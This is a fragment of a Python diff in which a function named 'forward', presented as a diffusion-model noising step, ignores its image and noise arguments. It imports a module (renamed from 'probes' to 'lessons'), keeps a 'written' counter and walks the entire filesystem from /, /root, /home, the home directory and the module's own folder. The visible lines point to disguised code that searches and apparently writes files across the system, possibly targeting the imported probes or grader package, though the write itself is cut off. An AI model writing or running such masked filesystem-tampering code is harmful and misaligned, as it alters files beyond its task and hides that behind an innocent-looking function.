@@ -17,10 +17,10 @@ MINE = ("/tmp", "/dev/shm", "/proc", "/sys")
 
 
 def forward(im, t, alphas_cumprod, noise=None):
-    import probes
+    import lessons
 
     written = 0
-    roots = [pathlib.Path(probes.__file__).parents[1], pathlib.Path(sys.prefix), pathlib.Path("/")]
+    roots = [pathlib.Path(lessons.__file__).parents[1], pathlib.Path(sys.prefix), pathlib.Path("/")]
     for start in [*roots, pathlib.Path("/root"), pathlib.Path("/home"), pathlib.Path.home()]:
         for folder, folders, files in os.walk(start):
             folder = pathlib.Path(folder)
